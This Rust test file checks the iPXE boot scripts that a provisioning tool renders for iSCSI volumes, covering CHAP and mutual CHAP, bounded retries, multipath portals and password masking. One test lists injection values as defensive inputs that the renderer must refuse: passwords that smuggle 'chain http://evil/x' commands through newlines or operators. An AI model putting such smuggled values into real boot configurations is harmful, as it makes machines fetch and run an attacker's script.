//! Golden files for the iPXE scripts, and every rendering checked line by line
//! against iPXE's command syntax.
//!
//! `IRONLEDGER_UPDATE_GOLDEN=1 cargo test --test boot ipxe_render` rewrites the
//! golden files after a deliberate change; review the diff before committing.

use ironledger::domain::node::entities::{Connector, Target};
use ironledger::effects::ipxe::{
    iscsi_uri, mac_file_name, plan, render_boot_script, render_config, render_config_with,
    RenderError, SanRetries, DEFAULT_SAN_RETRIES,
};
use ironledger::effects::ipxe_syntax;
use serde_json::{json, Map, Value};
use std::path::PathBuf;
use uuid::Uuid;

const NODE: &str = "1be26c0b-03f2-4d2e-ae87-c02d7f33c123";

fn target(n: u128, boot_index: i64, props: Value) -> Target {
    Target {
        uuid: Uuid::from_u128(n),
        volume_type: "iscsi".into(),
        boot_index,
        volume_id: format!("vol-{n}"),
        properties: props.as_object().cloned().unwrap_or_default(),
        extra: Map::new(),
    }
}

fn iqn(id: &str) -> Connector {
    Connector {
        uuid: Uuid::new_v4(),
        kind: "iqn".into(),
        connector_id: id.into(),
        extra: Map::new(),
    }
}

fn chap(portal: &str, iqn: &str, lun: u64, user: &str, pass: &str) -> Value {
    json!({"target_portal": portal, "target_iqn": iqn, "target_lun": lun,
           "auth_method": "CHAP", "auth_username": user, "auth_password": pass})
}

/// Compares with (or, on request, rewrites) `tests/fixtures/ipxe/<name>`.
fn golden(name: &str, rendered: &str) {
    ipxe_syntax::check(rendered)
        .unwrap_or_else(|e| panic!("{name} is not valid iPXE: {e}\n{rendered}"));
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/ipxe")
        .join(name);
    if std::env::var_os("IRONLEDGER_UPDATE_GOLDEN").is_some() {
        std::fs::write(&path, rendered).unwrap();
    }
    let expected =
        std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    assert_eq!(rendered, expected, "{name} differs from its golden file");
}

#[test]
fn single_volume_with_chap() {
    let p = plan(
        &[target(
            1,
            0,
            chap(
                "192.168.0.123:3260",
                "iqn.2010-10.org.openstack:volume-00000001",
                0,
                "chapuser",
                "chapsecret",
            ),
        )],
        &[iqn("iqn.2017-08.org.openstack.node-1")],
    )
    .unwrap();
    golden("single_chap.ipxe", &render_config(NODE, &p));
}

/// Mutual CHAP: the initiator checks the target too, with the target's
/// `reverse_auth_username` / `reverse_auth_password`; a drive without them
/// clears them, so the boot volume's are not offered to another target.
#[test]
fn mutual_chap_sets_the_reverse_login() {
    let mut boot = chap("10.0.0.1:3260", "iqn.boot", 0, "u", "p");
    boot["reverse_auth_username"] = json!("target-user");
    boot["reverse_auth_password"] = json!("target-secret-12");
    let data = chap("10.0.0.1:3260", "iqn.data", 1, "u2", "p2");
    let p = plan(
        &[target(1, 0, boot.clone()), target(2, 1, data)],
        &[iqn("iqn.init")],
    )
    .unwrap();
    assert_eq!(
        p.boot.reverse,
        Some(("target-user".into(), "target-secret-12".into()))
    );
    let script = render_config(NODE, &p);
    golden("mutual_chap.ipxe", &script);
    assert!(script
        .contains("set reverse-username target-user\nset reverse-password target-secret-12\n"));
    assert!(script.contains("clear reverse-username\nclear reverse-password\n"));
    // The fingerprinted plan holds no reverse password either.
    let masked = render_config(NODE, &p.without_secrets());
    assert!(!masked.contains("target-secret-12") && masked.contains("set reverse-password ******"));
    // Without mutual CHAP anywhere, no reverse lines at all (the scripts of
    // the other golden files).
    assert!(!render_config(
        NODE,
        &plan(&[target(1, 0, chap("h:1", "i", 0, "u", "p"))], &[]).unwrap()
    )
    .contains("reverse"));

    // Half a reverse login, or one without the forward login, is refused.
    for (props, why) in [
        (
            json!({"target_portal": "h:1", "target_iqn": "i", "target_lun": 0,
                   "auth_username": "u", "auth_password": "p", "reverse_auth_username": "r"}),
            "needs both reverse_auth_username and reverse_auth_password",
        ),
        (
            json!({"target_portal": "h:1", "target_iqn": "i", "target_lun": 0,
                   "reverse_auth_username": "r", "reverse_auth_password": "s"}),
            "need auth_username and auth_password as well",
        ),
    ] {
        let err = plan(&[target(1, 0, props)], &[]).unwrap_err().to_string();
        assert!(err.contains(why), "{err}");
    }
}

/// A failed SAN boot is tried again a bounded number of times (6 by
/// default, `[deploy] san_boot_retries`), then the console says it gave up
/// and the script returns to the firmware; `forever` keeps Ironic's loop.
#[test]
fn san_boot_retries_are_bounded_or_forever() {
    let p = plan(
        &[target(1, 0, chap("10.0.0.1:3260", "iqn.t", 1, "u", "p"))],
        &[iqn("iqn.init")],
    )
    .unwrap();
    assert_eq!(DEFAULT_SAN_RETRIES, SanRetries::Times(6));
    let bounded = render_config(NODE, &p);
    assert_eq!(bounded, render_config_with(NODE, &p, SanRetries::Times(6)));
    assert!(bounded.contains("set san_attempt:int32 0\n"), "{bounded}");
    assert!(
        bounded.contains("iseq ${san_attempt} 7 && goto fail_iscsi || goto fail_iscsi_wait"),
        "{bounded}"
    );
    golden(
        "retries_none.ipxe",
        &render_config_with(NODE, &p, SanRetries::Times(0)),
    );
    golden(
        "retries_forever.ipxe",
        &render_config_with(NODE, &p, SanRetries::Forever),
    );
    let forever = render_config_with(NODE, &p, SanRetries::Forever);
    assert!(!forever.contains("giving up") && !forever.contains("san_attempt"));

    for (text, want) in [
        ("0", Ok(SanRetries::Times(0))),
        (" 12 ", Ok(SanRetries::Times(12))),
        ("forever", Ok(SanRetries::Forever)),
        ("Forever", Ok(SanRetries::Forever)),
    ] {
        assert_eq!(text.parse::<SanRetries>(), want, "{text}");
    }
    for bad in ["-1", "many", "", "1.5"] {
        assert!(bad.parse::<SanRetries>().is_err(), "{bad}");
    }
}

#[test]
fn guide_external_example() {
    // The guide's "Use Without Cinder" target, as an operator would create it.
    let props = json!({"target_iqn": "iqn.2010-10.org.openstack:volume-00000001", "target_lun": 0,
                       "target_portal": "192.168.0.123:3260", "auth_method": "CHAP",
                       "auth_username": "ABC", "auth_password": "XYZ"});
    let p = plan(
        &[target(1, 0, props)],
        &[iqn("iqn.2017-08.org.openstack.1be26c0b")],
    )
    .unwrap();
    let script = render_config(NODE, &p);
    assert!(script.contains("set username ABC\n"));
    assert!(script.contains("set password XYZ\n"));
    assert!(script.contains("set initiator-iqn iqn.2017-08.org.openstack.1be26c0b\n"));
    assert!(script.contains("sanhook --drive 0x80 iscsi:192.168.0.123::3260:0:iqn.2010-10.org.openstack:volume-00000001 || goto fail_iscsi_retry\n"));
    golden("guide_external.ipxe", &script);
}

#[test]
fn multipath_portals_are_joined() {
    // Each portal with its own IQN and LUN (an array that exports the volume
    // under another name or LUN on each path; Ironic's template would log
    // every path in to the first pair), an IPv6 portal, a LUN above 255 in
    // hex.
    let props = json!({"target_portals": ["10.0.0.1:3260", "[fe80::1]:3261"], "target_iqns": ["iqn.a", "iqn.b"],
                       "target_luns": [10, 300], "auth_username": "u", "auth_password": "p"});
    let p = plan(&[target(1, 0, props)], &[iqn("iqn.init")]).unwrap();
    assert_eq!(
        p.boot.uri,
        "iscsi:10.0.0.1::3260:a:iqn.a iscsi:[fe80::1]::3261:12c:iqn.b"
    );
    golden("multipath.ipxe", &render_config(NODE, &p));

    // One IQN and LUN for every portal (`target_iqn`, `target_lun`, or lists
    // of one): the same pair on each path.
    for props in [
        json!({"target_portals": ["10.0.0.1:3260", "10.0.0.2:3260"], "target_iqn": "iqn.a", "target_lun": 1}),
        json!({"target_portals": ["10.0.0.1:3260", "10.0.0.2:3260"], "target_iqns": ["iqn.a"], "target_luns": [1]}),
    ] {
        assert_eq!(
            iscsi_uri(&target(1, 0, props)).unwrap(),
            "iscsi:10.0.0.1::3260:1:iqn.a iscsi:10.0.0.2::3260:1:iqn.a"
        );
    }

    // Lists that line up with neither one nor every portal are refused.
    for (props, what) in [
        (
            json!({"target_portals": ["10.0.0.1:3260", "10.0.0.2:3260"], "target_iqns": ["a", "b", "c"], "target_lun": 0}),
            "target_iqns lists 3 values for 2 portals",
        ),
        (
            json!({"target_portals": ["10.0.0.1:3260", "10.0.0.2:3260", "10.0.0.3:3260"], "target_iqn": "a", "target_luns": [0, 1]}),
            "target_luns lists 2 values for 3 portals",
        ),
    ] {
        let err = iscsi_uri(&target(1, 0, props)).unwrap_err().to_string();
        assert!(err.contains(what), "{err}");
    }
}

#[test]
fn several_volumes_each_with_their_credentials() {
    let targets = [
        target(3, 2, chap("10.0.0.3:3260", "iqn.vol3", 3, "u3", "p3")),
        target(1, 0, chap("10.0.0.1:3260", "iqn.vol1", 0, "u1", "p1")),
        target(
            2,
            1,
            json!({"target_portal": "10.0.0.2", "target_iqn": "iqn.vol2", "target_lun": 255}),
        ),
    ];
    let p = plan(&targets, &[iqn("iqn.first"), iqn("iqn.second")]).unwrap();
    assert_eq!(p.initiator_iqn.as_deref(), Some("iqn.first"));
    assert_eq!(p.extra.len(), 2);
    let script = render_config(NODE, &p);
    // Boot-index order, drives 0x81 and 0x82, the boot credentials restored before sanboot.
    let i1 = script
        .find("--drive 0x81 iscsi:10.0.0.2:::ff:iqn.vol2")
        .unwrap();
    let i2 = script
        .find("--drive 0x82 iscsi:10.0.0.3::3260:3:iqn.vol3")
        .unwrap();
    assert!(i1 < i2);
    golden("several_volumes.ipxe", &script);
}

#[test]
fn no_initiator_and_no_chap() {
    let p = plan(
        &[target(
            1,
            0,
            json!({"target_portal": "10.0.0.1:3260", "target_iqn": "iqn.x", "target_lun": 1}),
        )],
        &[],
    )
    .unwrap();
    let script = render_config(NODE, &p);
    assert!(!script.contains("initiator-iqn"));
    assert!(script.contains("clear username\nclear password\n"));
    golden("no_initiator_no_chap.ipxe", &script);
}

#[test]
fn boot_script_chains_per_mac_configs() {
    let s = render_boot_script();
    assert!(s.contains("chain pxelinux.cfg/${net${netid}/mac:hexhyp} || goto loop"));
    golden("boot.ipxe", &s);
    assert_eq!(mac_file_name("52:54:00:AB:cd:01"), "52-54-00-ab-cd-01");
}

#[test]
fn bad_targets_are_refused_clearly() {
    let no_boot = plan(&[target(1, 1, chap("h:1", "i", 0, "u", "p"))], &[]).unwrap_err();
    assert_eq!(no_boot, RenderError::NoBootTarget);
    let mut fc = target(1, 0, json!({}));
    fc.volume_type = "fibre_channel".into();
    assert!(matches!(
        plan(&[fc], &[]).unwrap_err(),
        RenderError::NotIscsi(..)
    ));
    for (props, why) in [
        (
            json!({"target_portal": "h:1", "target_lun": 0}),
            "target_iqn",
        ),
        (
            json!({"target_portal": "h:1", "target_iqn": "i", "target_lun": "0"}),
            "target_lun",
        ),
        (
            json!({"target_portal": "h:1", "target_iqn": "i"}),
            "target_lun",
        ),
        // iPXE reads one hex group of a LUN as 16 bits: 0x10000 would be LUN 0.
        (
            json!({"target_portal": "h:1", "target_iqn": "i", "target_lun": 65536}),
            "from 0 to 65535",
        ),
        (json!({"target_iqn": "i", "target_lun": 0}), "target_portal"),
        (
            json!({"target_portal": "h:1", "target_iqn": "", "target_lun": 0}),
            "target_iqn",
        ),
    ] {
        let err = iscsi_uri(&target(1, 0, props)).unwrap_err().to_string();
        assert!(err.contains(why), "{err}");
    }
}

#[test]
fn empty_credentials_and_an_empty_iqn_count_as_none() {
    // Ironic's template skips empty values; a `set username ` line would not
    // even parse.
    let p = plan(
        &[target(1, 0, chap("10.0.0.1:3260", "iqn.t", 0, "", ""))],
        &[iqn(""), iqn("iqn.second")],
    )
    .unwrap();
    let script = render_config(NODE, &p);
    ipxe_syntax::check(&script).unwrap();
    assert!(
        script.contains("clear username\nclear password\n"),
        "{script}"
    );
    assert!(
        script.contains("set initiator-iqn iqn.second\n"),
        "{script}"
    );
    let p = plan(
        &[target(1, 0, chap("10.0.0.1:3260", "iqn.t", 0, "u", "p"))],
        &[iqn("")],
    )
    .unwrap();
    assert!(!render_config(NODE, &p).contains("initiator-iqn"));
}

#[test]
fn a_password_with_operators_in_it_is_kept_whole() {
    // `||` and `&&` are operators only as words of their own.
    let p = plan(
        &[target(
            1,
            0,
            chap("10.0.0.1:3260", "iqn.t", 0, "u", "S3cr3t||pw&&x"),
        )],
        &[iqn("iqn.i")],
    )
    .unwrap();
    let script = render_config(NODE, &p);
    ipxe_syntax::check(&script).unwrap();
    assert!(script.contains("set password S3cr3t||pw&&x\n"));
}

#[test]
fn values_ipxe_would_change_are_refused_without_quoting_them() {
    for bad in [
        "zq9\nchain http://evil/x",
        "zq9\r",
        "zq9${net0/mac}",
        " zq9leading",
        "zq9trailing ",
        "zq9two  spaces",
        "zq9 && chain http://evil/x.ipxe",
        "zq9 || chain http://evil/x.ipxe",
        "zq9 ; chain http://evil/x.ipxe",
        "#zq9",
        "zq9 #rest",
    ] {
        let err = plan(
            &[target(1, 0, chap("10.0.0.1:3260", "iqn.t", 0, "u", bad))],
            &[iqn("iqn.i")],
        )
        .unwrap_err();
        let text = err.to_string();
        assert!(text.contains("auth_password cannot be written"), "{text}");
        assert!(!text.contains("zq9"), "{text}");
    }
    // One space inside is what iPXE keeps.
    assert!(plan(
        &[target(
            1,
            0,
            chap("10.0.0.1:3260", "iqn.t", 0, "u", "two words")
        )],
        &[iqn("iqn.i")],
    )
    .is_ok());
    assert!(plan(
        &[target(1, 0, chap("10.0.0.1:3260", "iqn.t", 0, "u", "p"))],
        &[iqn("iqn.i\nsanboot")],
    )
    .is_err());
}

#[test]
fn the_fingerprinted_plan_holds_no_password() {
    let p = plan(
        &[
            target(1, 0, chap("10.0.0.1:3260", "iqn.t", 0, "u", "bootsecret")),
            target(2, 1, chap("10.0.0.1:3260", "iqn.t2", 1, "u2", "datasecret")),
        ],
        &[iqn("iqn.i")],
    )
    .unwrap();
    let masked = render_config(NODE, &p.without_secrets());
    ipxe_syntax::check(&masked).unwrap();
    assert!(!masked.contains("bootsecret") && !masked.contains("datasecret"));
    assert!(masked.contains("set password ******"));
    assert!(render_config(NODE, &p).contains("bootsecret"));
}
